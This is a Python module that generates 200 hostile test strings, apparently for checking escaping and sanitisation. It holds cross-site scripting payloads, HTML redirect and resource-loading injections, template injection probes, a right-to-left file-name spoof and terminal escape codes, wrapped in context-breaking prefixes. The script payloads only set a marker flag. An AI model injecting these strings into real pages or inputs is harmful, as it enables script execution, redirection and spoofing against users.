"""Two hundred strings that mean harm to whoever shows them."""

from __future__ import annotations

_RUN = "parent.hacked=1,window.hacked=1"
_PIECES = [
    f"<script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<a href=javascript:{_RUN}>go</a>",
    f"javascript:{_RUN}",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<math><mtext><script>{_RUN}</script></mtext></math>",
    f"<form action=javascript:{_RUN}><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=http://192.0.2.1/'>",
    "<link rel=stylesheet href=http://192.0.2.1/a.css>",
    "<base href=http://192.0.2.1/>",
    "<style>*{display:none}</style>",
    f"data:text/html,<script>{_RUN}</script>",
    f"<img src=\"data:image/svg+xml,<svg onload='{_RUN}'/>\">",
    f"![x](javascript:{_RUN})",
    "[a link](http://192.0.2.1/)",
    "{{ 7 * 7 }}{% for x in y %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "\u202egnp.exe\u202c",
    "\u2066isolated\u2069\u200f",
    "\x1b[31mred\x1b[0m\x07",
]
_AROUND = ["{}", '">{}', "'>{}", "</pre>{}", "</script>{}<script>", "</title>{}", "--></textarea>{}<!--", "]]>{}"]
STRINGS: list[str] = [around.format(piece) if "{}" in around else piece for around in _AROUND for piece in _PIECES]
assert len(STRINGS) == 200
